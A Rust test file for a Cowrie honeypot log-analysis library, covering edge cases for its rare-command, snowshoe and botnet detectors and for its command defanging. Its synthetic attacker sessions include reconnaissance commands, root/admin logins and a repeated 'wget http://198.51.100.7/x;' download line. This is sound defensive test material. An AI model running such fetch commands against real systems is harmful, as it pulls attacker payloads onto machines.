//! Edge cases: empty input, one session, sessions without commands, 1 MB commands, bad events,
//! bad parameters and mismatched aggregates give clean results or typed errors, never panics.

use analysis::longtail::DayAggregate;
use analysis::{
    AnalysisError, BotnetParams, EventOptions, LongtailParams, Session, SnowshoeParams, botnet,
    create_safe_command, longtail, longtail_from_aggregates, no_progress, sessions_from_events,
    snowshoe,
};
use serde_json::json;

fn events_for(sid: &str, ip: &str, minute: u32, commands: &[&str]) -> Vec<serde_json::Value> {
    let ts = |s: u32| format!("2024-01-10T10:{minute:02}:{s:02}.000000Z");
    let mut evs = vec![
        json!({"eventid": "cowrie.session.connect", "session": sid, "src_ip": ip,
                              "timestamp": ts(0), "protocol": "ssh", "sensor": ""}),
    ];
    evs.push(
        json!({"eventid": "cowrie.login.success", "session": sid, "src_ip": ip,
                    "timestamp": ts(1), "username": "root", "password": "admin"}),
    );
    for (i, c) in commands.iter().enumerate() {
        evs.push(
            json!({"eventid": "cowrie.command.input", "session": sid, "src_ip": ip,
                        "timestamp": ts(2 + i as u32), "input": c}),
        );
    }
    evs.push(
        json!({"eventid": "cowrie.session.closed", "session": sid, "src_ip": ip,
                    "timestamp": ts(30), "duration": 30.0}),
    );
    evs
}

fn build(events: &[serde_json::Value]) -> Vec<Session> {
    let (s, errors) = sessions_from_events(events, EventOptions::default());
    assert!(errors.is_empty(), "{errors:?}");
    s
}

#[test]
fn empty_input_gives_empty_results() {
    let lt = longtail(&[], &LongtailParams::default(), &mut no_progress()).unwrap();
    assert_eq!(lt.total_sessions_analyzed, 0);
    assert!(lt.rare_commands.is_empty() && lt.outlier_sessions.is_empty());
    assert!(lt.recommendation.starts_with("NO DATA"));
    let merged =
        longtail_from_aggregates(vec![], &LongtailParams::default(), &mut no_progress()).unwrap();
    assert_eq!(merged.total_sessions_analyzed, 0);
    let s = snowshoe(&[], 24.0, &SnowshoeParams::default(), &mut no_progress()).unwrap();
    assert_eq!(s.recommendation, "NO DATA: Insufficient data for analysis");
    assert!(!s.is_likely_snowshoe);
    let b = botnet(&[], 24.0, &BotnetParams::default(), &mut no_progress()).unwrap();
    assert_eq!(
        b.error.as_deref(),
        Some("Insufficient session data for analysis")
    );
    assert!(!b.is_likely_botnet);
}

#[test]
fn one_session_is_analysed_without_clustering() {
    let sessions = build(&events_for(
        "aaaaaaaa0001",
        "203.0.113.5",
        1,
        &["uname -a", "ls"],
    ));
    assert_eq!(sessions.len(), 1);
    let s = &sessions[0];
    assert_eq!(s.src_ip.as_deref(), Some("203.0.113.5"));
    assert_eq!(s.commands, ["[defang:moderate] uname -a", "ls"]);
    assert_eq!(
        (s.login_attempts, s.command_events, s.event_count),
        (1, 2, 5)
    );
    assert_eq!(s.closed_duration, Some(30.0));
    assert_eq!(s.duration_seconds(), 30.0);
    let lt = longtail(&sessions, &LongtailParams::default(), &mut no_progress()).unwrap();
    // Two commands in total: int(2 * 0.05) = 0, so nothing is rare; too few sessions to cluster.
    assert_eq!(lt.total_events_analyzed, 2);
    assert!(lt.rare_commands.is_empty() && lt.outlier_sessions.is_empty());
    assert!(
        snowshoe(
            &sessions,
            24.0,
            &SnowshoeParams::default(),
            &mut no_progress()
        )
        .is_ok()
    );
    assert!(
        botnet(
            &sessions,
            24.0,
            &BotnetParams::default(),
            &mut no_progress()
        )
        .is_ok()
    );
}

#[test]
fn sessions_without_commands_give_the_limited_analysis() {
    let mut events = Vec::new();
    for i in 0..12 {
        events.extend(events_for(
            &format!("bbbbbbbb{i:04}"),
            &format!("198.51.100.{i}"),
            i,
            &[],
        ));
    }
    let sessions = build(&events);
    assert_eq!(sessions.len(), 12);
    let lt = longtail(&sessions, &LongtailParams::default(), &mut no_progress()).unwrap();
    assert_eq!(
        lt.statistical_summary["analysis_method"],
        "limited_analysis"
    );
    assert_eq!(lt.total_sessions_analyzed, 12);
    let s = snowshoe(
        &sessions,
        24.0,
        &SnowshoeParams::default(),
        &mut no_progress(),
    )
    .unwrap();
    assert_eq!(s.indicators.volume.total_ips, 12);
    assert_eq!(s.single_attempt_ips.len(), 12);
    let b = botnet(
        &sessions,
        24.0,
        &BotnetParams::default(),
        &mut no_progress(),
    )
    .unwrap();
    assert_eq!(b.indicators.commands.avg_similarity, 0.0);
    // Twelve sessions share root/admin: reused credentials.
    assert!(b.indicators.credentials.has_credential_reuse);
}

#[test]
fn huge_commands_are_handled() {
    let huge: String = "wget http://198.51.100.7/x; ".repeat((1 << 20) / 28 + 1);
    assert!(huge.len() > 1 << 20);
    let safe = create_safe_command(&huge);
    assert!(safe.starts_with("[defang:dangerous] wxgt hxxp://"));
    let mut events = Vec::new();
    for i in 0..6 {
        let cmds = [huge.as_str(), "a", "b", "c", "d"];
        events.extend(events_for(
            &format!("cccccccc{i:04}"),
            "192.0.2.9",
            i,
            &cmds,
        ));
    }
    let sessions = build(&events);
    let lt = longtail(&sessions, &LongtailParams::default(), &mut no_progress()).unwrap();
    assert_eq!(
        lt.statistical_summary["data_characteristics"]["command_sequences"],
        6
    );
    // Six identical sequences form one cluster: nothing anomalous.
    assert!(lt.anomalous_sequences.is_empty());
    let b = botnet(
        &sessions,
        24.0,
        &BotnetParams::default(),
        &mut no_progress(),
    )
    .unwrap();
    assert_eq!(
        b.error.as_deref(),
        Some("Insufficient session data for analysis")
    );
}

#[test]
fn bad_events_are_reported_and_the_rest_is_kept() {
    let mut events = events_for("dddddddd0001", "203.0.113.9", 1, &["ls"]);
    events.push(json!("not an object"));
    events
        .push(json!({"eventid": "cowrie.command.input", "session": "dddddddd0001", "input": "x"}));
    events.push(
        json!({"eventid": "cowrie.command.input", "session": "dddddddd0001",
                       "timestamp": "yesterday", "input": "x"}),
    );
    events.push(json!({"eventid": "cowrie.abuseipdb.report", "timestamp": "2024-01-10T10:00:00Z"}));
    let (sessions, errors) = sessions_from_events(&events, EventOptions::default());
    assert_eq!(errors.len(), 3, "{errors:?}");
    assert!(matches!(
        errors[0],
        AnalysisError::BadEvent { index: 4, .. }
    ));
    assert_eq!(sessions.len(), 1);
    assert_eq!(sessions[0].commands, ["ls"]);
}

#[test]
fn bad_parameters_are_typed_errors() {
    let sessions = build(&events_for("eeeeeeee0001", "203.0.113.1", 1, &["ls"]));
    let p = LongtailParams {
        cluster_eps: 0.0,
        ..Default::default()
    };
    assert!(matches!(
        longtail(&sessions, &p, &mut no_progress()),
        Err(AnalysisError::InvalidParameter {
            name: "cluster_eps",
            ..
        })
    ));
    let p = SnowshoeParams {
        time_cluster_eps: f64::NAN,
        ..Default::default()
    };
    assert!(snowshoe(&sessions, 24.0, &p, &mut no_progress()).is_err());
    let p = BotnetParams {
        min_cluster_size: 0,
        ..Default::default()
    };
    assert!(botnet(&sessions, 24.0, &p, &mut no_progress()).is_err());
}

#[test]
fn mismatched_aggregates_are_refused() {
    let sessions = build(&events_for("ffffffff0001", "203.0.113.1", 1, &["ls"]));
    let params = LongtailParams::default();
    let a = DayAggregate::from_sessions(None, &sessions, &params, &mut no_progress()).unwrap();
    let err = a.clone().merge(a.clone()).unwrap_err();
    assert!(matches!(err, AnalysisError::AggregateMismatch(_)), "{err}");
    let other = LongtailParams {
        sequence_window: 3,
        ..Default::default()
    };
    let b = DayAggregate::from_sessions(None, &[], &other, &mut no_progress()).unwrap();
    assert!(a.clone().merge(b).is_err());
    assert!(analysis::longtail_from_aggregate(&a, &other, &mut no_progress()).is_err());
}

#[test]
fn progress_reports_are_well_formed() {
    let mut events = Vec::new();
    for i in 0..8 {
        let cmds = ["uname -a", "cat /proc/cpuinfo", "free -m", "ls", "w"];
        events.extend(events_for(
            &format!("abababab{i:04}"),
            "198.51.100.3",
            i,
            &cmds,
        ));
    }
    let sessions = build(&events);
    let mut seen = Vec::new();
    longtail(&sessions, &LongtailParams::default(), &mut |p| seen.push(p)).unwrap();
    snowshoe(&sessions, 24.0, &SnowshoeParams::default(), &mut |p| {
        seen.push(p)
    })
    .unwrap();
    assert!(seen.iter().all(|p| p.current <= p.total), "{seen:?}");
    for stage in [
        "extract",
        "rare_commands",
        "anomalous_sequences",
        "outlier_sessions",
    ] {
        assert!(
            seen.iter().any(|p| p.stage == stage),
            "no {stage} report: {seen:?}"
        );
    }
    let last_extract = seen.iter().rfind(|p| p.stage == "extract").unwrap();
    assert_eq!((last_extract.current, last_extract.total), (8, 8));
}
